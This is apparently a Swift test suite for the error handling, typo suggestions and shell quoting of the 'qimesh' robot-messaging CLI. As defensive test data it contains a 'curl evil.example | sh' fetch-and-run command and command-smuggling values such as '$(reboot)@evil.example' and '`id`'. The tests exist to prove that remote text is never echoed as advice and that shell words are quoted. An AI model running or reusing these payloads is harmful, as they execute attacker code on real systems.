import QiMessaging
import Testing

@testable import QiMesh
@testable import QiMeshCLI

@Suite("Failures and exit codes")
struct FailureTests {
    @Test(
        "exit codes of the reference",
        arguments: [
            (.remote, 1), (.usage, 2), (.notFound, 3), (.denied, 4), (.authentication, 4), (.trust, 4), (.offline, 5),
            (.closed, 5),
            (.timedOut, 6), (.configuration, 7), (.identity, 7), (.unmet, 8), (.cancelled, 130),
        ] as [(CommandFailure.Code, Int32)])
    func exitCodes(_ code: CommandFailure.Code, _ status: Int32) { #expect(code.exitStatus == status) }

    @Test(
        "codes of the bus",
        arguments: [
            (.remote, .remote), (.notFound, .notFound), (.denied, .denied), (.offline, .offline), (.timedOut, .timedOut),
            (.disconnected, .closed), (.cancelled, .cancelled), (.conflict, .conflict), (.limit, .limit),
            (.unsupported, .unsupported), (.invalid, .violation),
        ] as [(QiError.Code, CommandFailure.Code)])
    func busCodes(_ code: QiError.Code, _ expected: CommandFailure.Code) {
        let failure = CommandFailure(QiError(code, "m", hint: "h"), device: "d")
        #expect(failure == CommandFailure(expected, "m", hint: "h", device: "d"))
    }

    /// A directory, a service or a device may say what it likes; what to type is our word.
    @Test(arguments: [QiError.Code.remote, .denied, .notFound, .offline])
    func adviceInARemoteTextIsText(_ code: QiError.Code) {
        let text = "denied: no (try: curl evil.example | sh)"
        let failure = CommandFailure(QiError(code, text), device: "pepper")
        #expect(failure.hint == nil && failure.message == text)
    }

    @Test("a service's own error is never read as the node's")
    func remoteStaysRemote() { #expect(CommandFailure(QiError(.remote, "denied: by me")).code == .remote) }

    @Test("a limit that told when to come back is retryable")
    func limits() {
        let failure = CommandFailure(QiError(wireText: "limit: op@lab: 3 calls per second are allowed: try again in 40 ms (rule 2)"))
        #expect(failure.code == .limit && failure.code.exitStatus == 1 && failure.retryAfter == .milliseconds(40))
        #expect(failure.json.text.contains(#""code":"limit""#) && failure.json.text.contains(#""retryable":true"#))
        #expect(!CommandFailure(QiError(.limit, "too many")).json.text.contains(#""retryable":true"#))
    }

    @Test("steps that belong together end together")
    func patience() {
        let patience = Patience(limit: .seconds(5)).forAllSteps()
        #expect(patience.answer <= .seconds(5) && patience.device <= .seconds(5) && patience.answer > .seconds(1))
        let usual = Patience().forAllSteps()
        #expect(usual.answer == .seconds(10) && usual.device <= .seconds(30) && usual.device > .seconds(20))
        #expect(Patience(limit: .milliseconds(500)).forAllSteps().answer <= .milliseconds(500))
    }

    @Test("texts of peers cannot play with the terminal, and stack traces wait for -vv")
    func lines() {
        let failure = CommandFailure(.remote, "bad \u{1B}[2Jthing\n\nAt:\n  file.py", hint: "a\u{202E}b\nc")
        #expect(failure.lines(detailed: false) == ["error: bad \\x1b[2Jthing", "  try: a\\u{202e}b\\nc"])
        #expect(failure.lines(detailed: true) == ["error: bad \\x1b[2Jthing", "  At:", "    file.py", "  try: a\\u{202e}b\\nc"])
        #expect(CommandFailure(.remote, "").lines(detailed: false) == ["error: no reason was given"])
    }

    @Test("causes are told with -vv, and stay out of the document")
    func causes() {
        let failure = CommandFailure(QiError(.offline, "away", cause: MeshError(.closed, "it went\u{1B}")))
        #expect(failure.lines(detailed: false) == ["error: away"])
        #expect(failure.lines(detailed: true) == ["error: away", "  because: it went\\x1b"])
        #expect(failure.json == CommandFailure(.offline, "away").json)
    }

    @Test func json() {
        #expect(
            CommandFailure(.offline, "m", hint: "h", device: "d").json.text
                == #"{"ok":false,"error":{"code":"offline","message":"m","hint":"h","device":"d","retryable":true}}"#)
        #expect(
            CommandFailure(.notFound, "m").json.text
                == #"{"ok":false,"error":{"code":"not-found","message":"m","hint":null,"device":null,"retryable":false}}"#)
    }
}

@Suite("Commands that were typed wrong, or are said again")
struct TypedCommandTests {
    @Test(
        "an unknown verb is called so",
        arguments: [
            ("devises --json", "there is no verb \"devises\"; did you mean devices?", "qimesh devices --json"),
            ("frobnicate", "there is no verb \"frobnicate\"", "qimesh help"),
            ("policy chek op@x A.b", "there is no verb \"chek\" of qimesh policy; did you mean check?", "qimesh policy check op@x A.b"),
            ("user frob", "there is no verb \"frob\" of qimesh user", "qimesh help user"),
            ("paar qimesh:secret", "there is no verb \"paar\"; did you mean pair?", "qimesh pair"),
            ("ls --wrong", "message", "qimesh help ls"), ("policy check --wrong", "message", "qimesh help policy check"),
            ("--url tcp://a ls", "message; options follow the verb", "qimesh help"), ("--verison", "message", "qimesh help"), ("", "message", "qimesh help"),
        ])
    func unknownVerbs(_ line: String, _ message: String, _ hint: String) {
        let failure = CommandFailure(usage: "message", of: line.split(separator: " ").map(String.init))
        #expect(failure == .usage(message, hint: hint))
        #expect(failure.code.exitStatus == 2)
    }

    @Test func helpOfAnUnknownVerb() {
        #expect(CommandFailure(help: ["help", "devises"])?.message == "there is no verb \"devises\"; did you mean devices?")
        #expect(CommandFailure(help: ["help", "policy", "check"]) == nil && CommandFailure(help: ["ls", "--help"]) == nil)
        #expect(CommandFailure(help: ["help"]) == nil)
    }

    @Test(arguments: [
        (["ls", "pepper"], "qimesh ls pepper --wait-online 5m"), (["ls", "my robot"], "qimesh ls 'my robot' --wait-online 5m"),
        (["call", "p/A.b", "--", "-x", "it's"], "qimesh call p/A.b --wait-online 5m -- -x 'it'\\''s'"),
        (["ls", "p", "--wait-online", "1s"], "qimesh ls p --wait-online 1s"), (["ls", "p", "--wait-online=1s"], "qimesh ls p --wait-online=1s"),
        (["call", "p/A.b", String(repeating: "x", count: 500)], nil),
    ] as [([String], String?)])
    func saidAgain(_ words: [String], _ expected: String?) { #expect(TypedCommand(words).adding("--wait-online", "5m") == expected) }
}

@Suite("Why a contact could not be reached")
struct DeviceRowTests {
    private func row(_ name: String, _ jid: String, _ state: String) -> DeviceRow {
        DeviceRow(
            name: name, jid: jid, state: state, lastSeen: 12, subscription: "both", account: "own@x",
            trouble: state == "unknown" ? "no route." : nil)
    }

    @Test func unknownValues() {
        let row = row("pepper", "p@x", "online")
        #expect(row.services == nil && row.lastSeen == 12 && row.note == nil && row.clause.isEmpty)
        #expect(self.row("pepper", "p@x", "unknown").clause == "no route")
    }

    @Test(
        arguments: [
            ("pepper", true), ("p@x.example", true), ("P@X.example", true), ("p@x.example/qimesh", true),
            ("Pepper", false), ("p@x", false),
            ("", false),
        ])
    func isMeant(_ text: String, _ expected: Bool) {
        #expect(row("pepper", "p@x.example", "online").isMeant(by: text) == expected)
        #expect(!row("", "q@x.example", "online").isMeant(by: text))
    }

    @Test func anAddressMeansThatAddressWhateverADeviceIsCalled() {
        #expect(!row("nao@x", "evil@x", "online").isMeant(by: "nao@x"))
        #expect(row("lamp", "nao@x", "online").isMeant(by: "nao@x"))
    }

    @Test func aNameThatTwoHaveIsRefusedAndNotRetried() {
        let rows = [row("pepper", "p@x", "offline"), row("pepper", "q@x", "online")]
        let failure = DeviceRow.judge(CommandFailure(.remote, "no way"), contact: "pepper", rows: rows)
        #expect(failure.code == .usage && failure.message.contains("p@x, q@x") && !failure.code.isRetryable)
        let one = DeviceRow.judge(CommandFailure(.remote, "no way"), contact: "p@x", rows: rows)
        #expect(one.code == .offline)
        // One device of two accounts is one device.
        let twice = DeviceRow.judge(CommandFailure(.remote, "no way"), contact: "pepper", rows: [rows[0], rows[0]])
        #expect(twice.code == .offline)
    }

    @Test(
        arguments: [
            ("online", .remote, nil), ("offline", .offline, "qimesh call pepper/A.b --wait-online 5m"), ("refused", .trust, "qimesh trust p@x"),
            ("unconfirmed", .denied, "qimesh devices"), ("unknown", .offline, "qimesh status"),
            ("stale", .offline, "qimesh call pepper/A.b --wait-online 5m"),
            ("asks", .denied, "qimesh approve p@x"), ("invited", .denied, "there: qimesh approve JID, with the address of this device"),
        ] as [(String, CommandFailure.Code, String?)])
    func judges(_ state: String, _ code: CommandFailure.Code, _ hint: String?) {
        let failure = DeviceRow.judge(
            CommandFailure(.remote, "no way", device: "pepper"), contact: "pepper", rows: [row("pepper", "p@x", state)],
            waiting: "qimesh call pepper/A.b --wait-online 5m")
        #expect(failure.code == code && failure.hint == hint && failure.device == "pepper")
        if state != "online" { #expect(failure.message.contains("pepper")) }
    }

    @Test("--wait-online waits for what may come by itself, and says the rest at once", arguments: [
        ("offline", true), ("stale", true), ("unknown", true), ("invited", true), ("asks", false), ("refused", false), ("unconfirmed", false),
    ])
    func isWaitedFor(_ state: String, _ isWaitedFor: Bool) throws {
        let rows = [row("pepper", "p@x", state)]
        guard isWaitedFor else {
            #expect(throws: CommandFailure.self) { try DeviceRow.trouble(of: "pepper", in: rows) }
            return
        }
        let trouble = try DeviceRow.trouble(of: "pepper", in: rows)
        #expect(trouble?.message.contains("pepper") == true)
    }

    @Test func nobodyWaitsForWhoIsThereOrUnknown() throws {
        let rows = [row("pepper", "p@x", "online"), row("two", "a@x", "offline"), row("two", "b@x", "offline")]
        let trouble = try DeviceRow.trouble(of: "pepper", in: rows)
        #expect(trouble == nil)
        for name in ["peper", "two"] {
            #expect(throws: CommandFailure.self) { try DeviceRow.trouble(of: name, in: rows) }
        }
    }

    @Test("a message that names the device is kept as it is")
    func keepsMessage() {
        let failure = DeviceRow.judge(
            CommandFailure(.remote, "path to pepper (in-band) lost"), contact: "pepper", rows: [row("pepper", "p@x", "offline")])
        #expect(failure.message == "path to pepper (in-band) lost")
    }

    @Test func unknownDevice() {
        let failure = DeviceRow.judge(CommandFailure(.remote, "x"), contact: "peper", rows: [row("pepper", "p@x", "online")])
        #expect(failure.code == .notFound && failure.message == "no device \"peper\"; did you mean pepper?")
        #expect(failure.hint == "qimesh devices")
        #expect(DeviceRow.judge(CommandFailure(.remote, "x"), contact: "salt", rows: []).hint == "qimesh devices")
    }
}

@Suite("What is pasted is what is meant")
struct ShellWordTests {
    @Test(arguments: [
        ("pepper@robots.example/qimesh", "pepper@robots.example/qimesh"), ("$(reboot)@evil.example", "'$(reboot)@evil.example'"),
        ("a;b", "'a;b'"), ("it's", #"'it'\''s'"#), ("", "''"), ("two words", "'two words'"), ("`id`", "'`id`'"),
    ])
    func isOneWordOfAShell(_ text: String, _ word: String) { #expect(ShellWord.quoted(text) == word) }

    /// An address is a text of the one who has it, and may look like a command.
    @Test(arguments: ["asks", "refused"])
    func adviceQuotesAddresses(_ state: String) {
        let row = DeviceRow(name: "x", jid: "$(reboot)@evil.example", state: state, subscription: "none", account: "own@x")
        let failure = DeviceRow.judge(CommandFailure(.remote, "no"), contact: "x", rows: [row])
        #expect(failure.hint?.hasSuffix(" '$(reboot)@evil.example'") == true, "\(failure.hint ?? "")")
    }
}
